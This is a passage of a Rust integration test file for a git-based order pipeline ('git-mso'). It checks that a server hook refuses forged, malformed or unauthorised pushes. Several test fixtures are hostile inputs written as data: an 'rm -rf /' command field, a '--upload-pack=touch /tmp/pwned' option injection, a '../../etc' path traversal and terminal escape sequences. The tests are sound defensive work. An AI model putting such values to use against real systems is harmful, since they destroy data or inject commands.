        refs_case("another ref under refs/mso/", &[format!("{tip}:refs/mso/shadow")], "refs/mso/shadow: only refs/mso/ledger and refs/mso/rejected/ORDER/N live under refs/mso/"),
        refs_case("a directory in the notes tree", &[format!("{}:refs/notes/mso", s.notes_commit(&format!("{notes_tree}\n040000 tree {tree}\tab"), true))], "'ab' is not a plain note"),
        refs_case("a note over 64 KiB", &[format!("{}:refs/notes/mso", s.notes_commit(&format!("{notes_tree}\n100644 blob {big_note}\t{base}"), true))], "has 66560 bytes, the limit is 65536"),
        refs_case("a note not named by a commit id", &[format!("{}:refs/notes/mso", s.notes_commit(&format!("{notes_tree}\n100644 blob {small_note}\tREADME"), true))], "'README' is not named by a commit id"),
        refs_case("deleting the notes", &[":refs/notes/mso".into()], "deleting the notes (refs/notes/mso) is not allowed"),
        refs_case("notes that rewrite history", &[format!("+{}:refs/notes/mso", s.notes_commit(&notes_tree, false))], "is not a fast-forward"),
        // Transitions and form (kept from before the trust work).
        case("approval of an order not awaiting review", s.forge_by("bob", vec![
            body(json!({"type": "APPROVED", "order": "CHR-0001", "role": "BLD", "by": "bob", "commit": chr_head})),
        ]), "APPROVED by bob pushed by mallory"),
        as_pusher(case("approval of an order not awaiting review, by an approver", s.forge_by("bob", vec![
            body(json!({"type": "APPROVED", "order": "CHR-0001", "role": "BLD", "by": "bob", "commit": chr_head})),
            body(json!({"type": "ADVANCED", "order": "CHR-0001", "from": "BLD", "to": "TST"})),
        ]), "illegal APPROVED event: CHR-0001 is running at BLD, not awaiting review"), "bob"),
        as_pusher(case("ADVANCED skipping a role", s.forge_by("bob", vec![approve("bob").remove(0), body(json!({"type": "ADVANCED", "order": "FTR-0001", "from": "PLN", "to": "TST"}))]), "the role after PLN in its sequence is BLD"), "bob"),
        as_pusher(case("approval without its hand-off", s.forge_by("bob", vec![approve("bob").remove(0)]), "must record ADVANCED or COMPLETED in the same transaction"), "bob"),
        as_pusher(case("approval pinned to another commit", s.forge_by("bob", vec![body(json!({"type": "APPROVED", "order": "FTR-0001", "role": "PLN", "by": "bob", "commit": base})), approve("bob").remove(1)]), "the review pins"), "bob"),
        case("path-traversal order id", s.forge(&s.git(&["log", "-1", "--format=%B", &honest]).replace("FTR-0002", "../../etc")), "malformed order id"),
        case("invalid JSON event", s.forge("x\n\n{\"id\": \"0\", \"type\": \n\nMso-Schema: 3\n"), "is not a valid event"),
        case("unknown event type", s.forge("x\n\n{\"id\":\"0\",\"at\":1,\"actor\":\"m\",\"type\":\"EXECUTE\",\"cmd\":\"rm -rf /\"}\n\nMso-Schema: 3\n"), "is not a valid event"),
        case("unknown schema version", s.forge(&honest_msg.replace("Mso-Schema: 3", "Mso-Schema: 4")), "written with ledger schema 4"),
        case("a commit that is not a ledger commit", s.forge("just a commit\n"), "not a git-mso ledger commit"),
        case("a subject that lies about the events", s.forge(&honest_msg.replacen("FTR-0002: created", "FTR-0001: approved PLN by bob", 1)), "not in canonical form"),
        case("a commit without events", s.forge("empty\n\n\nMso-Schema: 3\n"), "carries no events"),
        case("an order id out of sequence", s.forge_by("mallory", vec![body(json!({"type": "ORDER_CREATED", "order": "FTR-0009", "title": "t", "roles": ["PLN", "BLD", "TST"], "gates": ["PLN"], "voyage": "VOY-0001"}))]), "order id FTR-0009 is out of sequence: the next FTR id is FTR-0002"),
        case("a title with an escape sequence", s.forge_by("mallory", vec![body(json!({"type": "ORDER_CREATED", "order": "FTR-0002", "title": "a\u{1b}[2Jb", "roles": ["PLN", "BLD", "TST"], "gates": ["PLN"], "voyage": "VOY-0001"}))]), "title contains a newline, control or invisible character"),
        case("a second INIT", s.forge_by("mallory", vec![json!({"type": "INIT", "config": git_mso::core::Config::initial("mallory")})]), "the pipeline is already initialized"),
        case("two crews on one voyage", s.forge_by("mallory", vec![
            body(json!({"type": "ORDER_CREATED", "order": "CHR-0002", "title": "t", "roles": ["BLD", "TST"], "gates": [], "voyage": "VOY-0002"})),
            body(json!({"type": "DISPATCHED", "order": "CHR-0002", "role": "BLD", "attempt": 1, "lease": lease("mallory", NOW_SECS + 600)})),
        ]), "VOY-0002 is busy: CHR-0001 runs there or awaits review"),
        case("a result for a role that never ran", s.forge_by("mallory", vec![new_ftr2(), succeed(&plan_head)]), "FTR-0002 is queued at PLN, not running"),
        case("a merge commit", s.commit(&honest_tree, &[&tip, &base], &honest_msg), "merge commits are not allowed"),
        case("rewritten history", s.commit(&honest_tree, &[&parent], &honest_msg), "only fast-forwards are accepted"),
        refs_case("deleting the ledger", &[":refs/mso/ledger".into()], "refs/mso/ledger: deleting it is not allowed"),
        // Pull-request workflows: rejected work, publication, landing, closing.
        as_pusher(case("a rejection pinned to another commit", s.forge_by("bob", vec![body(json!({"type": "REJECTED", "order": "FTR-0001", "role": "PLN", "by": "bob", "commit": base, "reason": "no", "to": "PLN"}))]), "FTR-0001: the review pins"), "bob"),
        refs_case("a branch rewound by posing its work as rejected", &[format!("+{base}:refs/heads/voyage/VOY-0001"), format!("{plan_head}:refs/mso/rejected/FTR-0001/1")], &format!("refs/heads/voyage/VOY-0001: {}..{} is not a fast-forward, and VOY-0001 has open orders", &plan_head[..7], &base[..7])),
        refs_case("a branch rewound, its work dropped", &[format!("+{base}:refs/heads/voyage/VOY-0001")], "is not a fast-forward, and VOY-0001 has open orders"),
        refs_case("rejected work under a padded number", &[format!("{plan_head}:refs/mso/rejected/FTR-0001/01")], "rejected work is kept at refs/mso/rejected/ORDER/N"),
        refs_case("rejected work under a deeper name", &[format!("{plan_head}:refs/mso/rejected/FTR-0001/1/x")], "rejected work is kept at refs/mso/rejected/ORDER/N"),
        refs_case("rejected work the ledger does not record", &[format!("{plan_head}:refs/mso/rejected/FTR-0001/1")], "refs/mso/rejected/FTR-0001/1: the ledger records no rejection 1 of FTR-0001"),
        refs_case("rejected work of no order", &[format!("{plan_head}:refs/mso/rejected/FTR-0009/1")], "the ledger records no rejection 1 of FTR-0009"),
        case("a landing by a commit that does not contain the voyage", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_LANDED", "voyage": "VOY-0001", "target": "main", "commit": s.orphan, "head": plan_head, "how": "merge"}))]), "VOY-0001 did not land at"),
        case("a squash landing without the voyage's trailer", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_LANDED", "voyage": "VOY-0001", "target": "main", "commit": base, "head": plan_head, "how": "squash"}))]), "its message has no `Mso-Voyage: VOY-0001` trailer"),
        case("a fast-forward landing at another commit", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_LANDED", "voyage": "VOY-0001", "target": "main", "commit": base, "head": plan_head, "how": "fast-forward"}))]), "a fast-forward landing names the voyage head itself"),
        case("a landing on another branch than the voyage's target", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_LANDED", "voyage": "VOY-0001", "target": "release", "commit": plan_head, "head": plan_head, "how": "fast-forward"}))]), "VOY-0001 is meant to land on main, not release"),
        case("a landing of a voyage with no work", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_LANDED", "voyage": "VOY-0003", "target": "main", "commit": base, "head": base, "how": "fast-forward"}))]), "VOY-0003 has no work of its own to land"),
        case("a landing naming an old head", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_LANDED", "voyage": "VOY-0001", "target": "main", "commit": base, "head": base, "how": "fast-forward"}))]), "the landing names"),
        case("a stranger closes a voyage", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_CLOSED", "voyage": "VOY-0001", "reason": "mine"}))]), "mallory may not close VOY-0001"),
        case("a stranger publishes a voyage (a look-alike pull request)", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_PUBLISHED", "voyage": "VOY-0001", "head": plan_head, "title": "t", "url": "https://example.com/pr/1"}))]), "mallory may not publish VOY-0001"),
        as_pusher(case("a publication of a head nobody recorded", s.forge_by("bob", vec![body(json!({"type": "VOYAGE_PUBLISHED", "voyage": "VOY-0001", "head": s.orphan, "title": "t", "url": "https://example.com/pr/1"}))]), "VOY-0001: the publication names"), "bob"),
        as_pusher(case("a publication with an escape sequence in its URL", s.forge_by("bob", vec![body(json!({"type": "VOYAGE_PUBLISHED", "voyage": "VOY-0001", "head": plan_head, "title": "t", "url": "https://x\u{1b}]8;;"}))]), "url contains a newline, control or invisible character"), "bob"),
        case("a landing while a review is open on the voyage", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_LANDED", "voyage": "VOY-0001", "target": "main", "commit": plan_head, "head": plan_head, "how": "fast-forward"}))]), "VOY-0001 is busy: FTR-0001 runs there or awaits review"),
        case("a voyage aimed at an option", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_CREATED", "voyage": "VOY-0004", "base": base, "target": "--upload-pack=touch /tmp/pwned"}))]), "target branch is not a branch name"),
        case("a landing of a voyage with no target, on any branch", s.forge_by("mallory", vec![
            body(json!({"type": "VOYAGE_CREATED", "voyage": "VOY-0004", "base": plan_head, "target": null})),
            body(json!({"type": "VOYAGE_LANDED", "voyage": "VOY-0004", "target": "main", "commit": plan_head, "head": plan_head, "how": "fast-forward"})),
        ]), "VOY-0004 has no target branch, so it cannot land"),
        case("a voyage aimed at a voyage branch", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_CREATED", "voyage": "VOY-0004", "base": base, "target": "voyage/VOY-0001"}))]), "target branch is not a branch name"),
        case("an event about a voyage that does not exist", s.forge_by("mallory", vec![body(json!({"type": "VOYAGE_CLOSED", "voyage": "VOY-0009", "reason": "x"}))]), "no voyage VOY-0009"),
    ];
    assert!(cases.len() >= 95, "{} cases", cases.len());
    let before = s.client.refs_in(&s.server);
    let mut table = vec!["| push | refusal |".to_string(), "|---|---|".to_string()];
    for c in &cases {
        let specs: Vec<&str> = c.specs.iter().map(String::as_str).collect();
        let (landed, stderr) = s.push(&specs, c.pusher);
        let line = stderr.lines().find(|l| l.contains("git-mso: refusing")).unwrap_or_default();
        let line = line.trim_start_matches("remote: ").trim().to_string();
        assert!(!landed, "{}: the push landed", c.name);
        assert!(line.contains(&c.expected), "{}: expected {:?} in {stderr}", c.name, c.expected);
        assert_eq!(stderr.matches("git-mso: refusing").count(), 1, "{}: one line: {stderr}", c.name);
        assert_eq!(s.client.refs_in(&s.server), before, "{}: a server ref moved", c.name);
        table.push(format!("| {} | {} |", c.name, line.trim_start_matches("git-mso: refusing the push: ")));
    }
    // What only a client speaking to receive-pack itself can send: a ref named
    // twice (the second update would go unchecked), and an old value that is
    // not the ref's (the hook would judge a base that is not the server's).
    let second = s.honest_by_mallory();
    let (landed, _) = s.push(&[&format!("{second}:refs/heads/raw-1")], "mallory");
    assert!(landed);
    let before = s.client.refs_in(&s.server);
    let raw_cases = [
        (
            "the ledger named twice in one push",
            vec![format!("{tip} {honest} refs/mso/ledger"), format!("{honest} {second} refs/mso/ledger")],
            "refs/mso/ledger: named twice in one push",
        ),
        (
            "an old value that is not the ref's",
            vec![format!("{parent} {honest} refs/mso/ledger")],
            "the push says it moves it from",
        ),
    ];
    for (name, commands, expected) in raw_cases {
        let (report, stderr) = common::raw_push(&s.client.home, &s.server, &commands, &[(PUSHER, "mallory")]);
        let line = stderr.lines().find(|l| l.contains("git-mso: refusing")).unwrap_or_default().to_string();
        assert!(line.contains(expected), "{name}: expected {expected:?}: {stderr} {report}");
        assert!(report.contains("ng refs/mso/ledger"), "{name}: {report}");
        assert_eq!(s.client.refs_in(&s.server), before, "{name}: a server ref moved");
        table.push(format!(
            "| {name} (raw receive-pack) | {} |",
            line.trim_start_matches("git-mso: refusing the push: ")
        ));
    }
    // A tree object at the ref is refused by git itself or by the hook; nothing moves either way.
    let (landed, _) = s.push(&[&format!("+{tree}:refs/mso/ledger")], "mallory");
    assert!(!landed);
    assert_eq!(s.client.refs_in(&s.server), before);
    println!("{}", table.join("\n"));

    // The honest commit the forgeries were made from lands, and the server's ledger checks out.
    let (landed, stderr) = s.push(&[&format!("{honest}:refs/mso/ledger")], "mallory");
    assert!(landed, "{stderr}");
    let fsck = s.client.mso_in(&s.server, &["fsck"]);
    assert!(fsck.status.success(), "{}", String::from_utf8_lossy(&fsck.stderr));
}

#[test]
fn a_misconfigured_server_refuses_every_push_until_fixed() {
    let s = Server::new();
    let honest = s.honest_by_mallory();
    let before = s.client.refs_in(&s.server);
    for (key, value, expected) in [
        ("mso.server.maxSkew", "5x", "mso.server.maxSkew is '5x', not a duration"),
        ("mso.server.timeBudget", "forever", "mso.server.timeBudget is 'forever', not a duration"),
    ] {
        s.client.git_in(&s.server, &["config", key, value]);
        let (landed, stderr) = s.push(&[&format!("{honest}:refs/mso/ledger")], "mallory");
        assert!(!landed && stderr.contains(expected), "{stderr}");
        s.client.git_in(&s.server, &["config", "--unset", key]);
    }
    let mut cmd = std::process::Command::new("git");
    cmd.args(["push", s.server.to_str().unwrap(), &format!("{honest}:refs/mso/ledger")]).current_dir(&s.client.path);
    common::isolate(&mut cmd, &s.client.home);
    let out = cmd.output().unwrap();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("mso.server.pusherEnv names MSO_TEST_PUSHER, which is not set")
    );
    assert_eq!(s.client.refs_in(&s.server), before);
    let (landed, stderr) = s.push(&[&format!("{honest}:refs/mso/ledger")], "mallory");
    assert!(landed, "{stderr}");
}

/// `git mso sync` in `dir` as `pusher`; stdout, or a panic with stderr.
fn sync_as(repo: &TestRepo, dir: &std::path::Path, pusher: &str) -> String {
    let out = repo.mso_cmd(dir).arg("sync").env(PUSHER, pusher).output().unwrap();
    assert!(out.status.success(), "sync as {pusher}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn an_honest_team_is_accepted_under_pusher_env() {
    let s = Server::new();
    let c = &s.client;
    // The admin changes the pipeline.
    c.ok(&["config", "max_attempts", "4"]);
    sync_as(c, &c.path, "alice");
    // The approver approves, as herself.
    c.git(&["config", "mso.user", "bob"]);
    c.ok(&["review", "approve", "FTR-0001"]);
    sync_as(c, &c.path, "bob");
    c.git(&["config", "--unset", "mso.user"]);
    assert_eq!(c.json(&["order", "show", "FTR-0001", "--json"])["role"], "BLD");
    // A runner clone claims, builds, publishes and records its own runs.
    let runner = c.root().join("carol");
    c.git(&["clone", "-q", s.server.to_str().unwrap(), runner.to_str().unwrap()]);
    let work = c.crew("work.sh", "echo \"$MSO_ROLE\" >> work.txt");
    for (k, v) in
        [("user.name", "carol"), ("mso.crew.BLD.command", work.as_str()), ("mso.crew.TST.command", work.as_str())]
    {
        c.git_in(&runner, &["config", k, v]);
    }
    sync_as(c, &runner, "carol");
    let out = c
        .mso_cmd(&runner)
        .args(["dispatch", "--once", "--remote", "origin"])
        .env(PUSHER, "carol")
        .env("COUNT_FILE", c.count_file())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("FTR-0001  TST") && stdout.contains("completed"),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let order: serde_json::Value =
        serde_json::from_slice(&c.mso_in(&s.server, &["order", "show", "FTR-0001", "--json"]).stdout).unwrap();
    assert_eq!(order["status"], "completed");
    assert_eq!(c.git_in(&s.server, &["show", "voyage/VOY-0001:work.txt"]), "BLD\nTST\n");
    // CHR-0001 is still alice's: carol's runner left it alone.
    let chr: serde_json::Value =
        serde_json::from_slice(&c.mso_in(&s.server, &["order", "show", "CHR-0001", "--json"]).stdout).unwrap();
    assert_eq!((chr["status"].as_str(), chr["lease"]["actor"].as_str()), (Some("running"), Some("alice")));
    let fsck = c.mso_in(&s.server, &["fsck"]);
    assert!(fsck.status.success(), "{}", String::from_utf8_lossy(&fsck.stderr));
}
